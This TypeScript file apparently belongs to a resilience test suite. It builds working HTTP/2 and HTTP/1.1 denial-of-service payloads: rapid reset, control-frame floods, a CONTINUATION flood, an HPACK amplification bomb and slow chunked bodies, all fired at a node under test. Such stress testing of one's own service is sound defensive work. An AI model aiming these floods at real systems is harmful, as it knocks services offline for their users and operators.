import { setTimeout as sleep } from "node:timers/promises";
import { frame, request } from "../access/http2-frames.ts";
import type { Attack } from "./attack.ts";
import type { NodeUnderAttack } from "./node-under-attack.ts";
import { openSocket, requestHead, write } from "./send.ts";

const floodMs = 1_500;

const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame("SETTINGS", 0),
]);
const cancel = Buffer.from("00000008", "hex");

/**
 * Traffic that HTTP permits but that requests nothing, or whose response the caller does not read.
 */
export const protocolAttacks: readonly Attack[] = [
  {
    name: "protocol: calls over HTTP/2 that are reset as fast as they are made",
    isInGate: false,
    prepare: async (node) => {
      const { token } = node;
      const calls = Array.from({ length: 1_000 }, (_, at) => [
        request(2 * at + 1, {
          ":method": "GET",
          ":path": "/v1alpha1/transcripts",
          authorization: `Bearer ${token}`.slice(0, 126),
        }),
        frame("RST_STREAM", 2 * at + 1, cancel),
      ]).flat();
      return async () => await flood(node, { first: Buffer.concat([preface, ...calls]), count: 4 });
    },
  },
  h2Flood("pings", frame("PING", 0, Buffer.alloc(8))),
  h2Flood("settings", frame("SETTINGS", 0, Buffer.from("000300000064", "hex"))),
  h2Flood("window updates", frame("WINDOW_UPDATE", 0, Buffer.from("00000001", "hex"))),
  {
    name: "protocol: empty frames of data in a body over HTTP/2",
    isInGate: false,
    prepare: async (node) => {
      const first = Buffer.concat([preface, postOf(node)]);
      const again = repeated(frame("DATA", 1, Buffer.alloc(0)), 20_000);
      return async () => await flood(node, { first, again, count: 4 });
    },
  },
  {
    name: "protocol: frames of one byte in a body over HTTP/2",
    isInGate: false,
    prepare: async (node) => {
      const first = Buffer.concat([preface, postOf(node)]);
      const again = repeated(frame("DATA", 1, Buffer.from(" ")), 20_000);
      return async () => await flood(node, { first, again, count: 4 });
    },
  },
  {
    name: "protocol: headers over HTTP/2 without an end",
    isInGate: false,
    prepare: async (node) => {
      const head = request(1, { ":method": "GET", ":path": "/" });
      // The frame has no END_HEADERS.
      head.writeUInt8(0, 4);
      const continuation = frame("SETTINGS", 1, repeated(Buffer.from("0001610162", "hex"), 3_000));
      continuation.writeUInt8(9, 3);
      const first = Buffer.concat([preface, head]);
      return async () => await flood(node, { first, again: continuation, count: 4 });
    },
  },
  {
    name: "protocol: a header that is repeated thousands of times (HPACK)",
    isInGate: false,
    prepare: async (node) => {
      const value = Buffer.alloc(3_900, "a");
      // A literal with indexing, followed by its index 3,000 times: 12 MB of headers in 3 kB.
      const first = Buffer.concat([
        Buffer.from("4001617f", "hex"),
        lengthRest(value.length),
        value,
      ]);
      const block = Buffer.concat([Buffer.from("828684", "hex"), first, Buffer.alloc(3_000, 0xbe)]);
      const bomb = frame("PING", 1, block);
      bomb.writeUInt8(1, 3);
      bomb.writeUInt8(5, 4);
      const whole = Buffer.concat([preface, bomb]);
      return async () => await flood(node, { first: whole, count: 50 });
    },
  },
  {
    name: "protocol: bodies in chunks of one byte over HTTP/1.1",
    isInGate: false,
    prepare: async (node) => {
      const headers = { "Transfer-Encoding": "chunked", "Content-Type": "application/json" };
      const first = Buffer.from(requestHead(node, "POST", "/v1alpha1/transcripts", headers));
      const again = repeated(Buffer.from("1\r\n \r\n"), 20_000);
      return async () => await flood(node, { first, again, count: 4 });
    },
  },
  {
    name: "protocol: chunks with long extensions over HTTP/1.1",
    isInGate: false,
    prepare: async (node) => {
      const headers = { "Transfer-Encoding": "chunked", "Content-Type": "application/json" };
      const first = Buffer.from(requestHead(node, "POST", "/v1alpha1/transcripts", headers));
      const again = repeated(Buffer.from(`1;${"x".repeat(10_000)}\r\n \r\n`), 100);
      return async () => await flood(node, { first, again, count: 4 });
    },
  },
  {
    name: "protocol: pipelined requests over HTTP/1.1",
    isInGate: false,
    prepare: async (node) => {
      const again = Buffer.from(requestHead(node, "GET", "/nowhere").repeat(500));
      return async () => await flood(node, { first: Buffer.alloc(0), again, count: 4 });
    },
  },
  {
    name: "protocol: paths and queries of 15 kB",
    isInGate: false,
    prepare: async (node) => {
      const deep = `/v1alpha1${"/a".repeat(7_000)}`;
      const many = `/v1alpha1/transcripts?${"pageSize=1&".repeat(1_300)}`;
      const text = requestHead(node, "GET", deep) + requestHead(node, "GET", many);
      const again = Buffer.from(text.repeat(30));
      return async () => await flood(node, { first: Buffer.alloc(0), again, count: 4 });
    },
  },
];

function h2Flood(what: string, one: Buffer): Attack {
  return {
    name: `protocol: ${what} over HTTP/2, as fast as they can be sent`,
    isInGate: false,
    prepare: async (node) => {
      const again = repeated(one, 10_000);
      return async () => await flood(node, { first: preface, again, count: 4 });
    },
  };
}

function postOf({ token }: NodeUnderAttack): Buffer {
  return request(1, {
    ":method": "POST",
    ":path": "/v1alpha1/transcripts",
    "content-type": "application/json",
    authorization: `Bearer ${token}`.slice(0, 126),
  });
}

function repeated(bytes: Buffer, count: number): Buffer {
  return Buffer.alloc(bytes.length * count, bytes);
}

/**
 * Returns the remaining bytes of an HPACK length whose first seven bits are full (RFC 7541, section
 * 5.1).
 */
function lengthRest(length: number): Buffer {
  const rest = length - 127;
  return Buffer.from([(rest % 128) | 128, Math.floor(rest / 128)]);
}

/**
 * Writes to this many connections concurrently, and discards the responses, until the time is over
 * or the connections are closed.
 */
async function flood(
  node: NodeUnderAttack,
  {
    first,
    again = Buffer.alloc(0),
    count,
  }: { readonly first: Buffer; readonly again?: Buffer; readonly count: number },
): Promise<string> {
  const endsAt = performance.now() + floodMs;
  let closed = 0;
  let sentBytes = 0;
  const one = async (): Promise<void> => {
    const socket = await openSocket(node);
    socket.resume();
    await write(socket, first);
    while (performance.now() < endsAt && !socket.destroyed) {
      if (again.length > 0 && !(await write(socket, again, 1_000))) break;
      sentBytes += again.length;
      await sleep(again.length > 0 ? 1 : 100);
    }
    if (socket.destroyed) closed += 1;
    socket.destroy();
  };
  await Promise.all(Array.from({ length: count }, one));
  return `${closed} of ${count} closed, ${sentBytes >> 20} MB sent`;
}
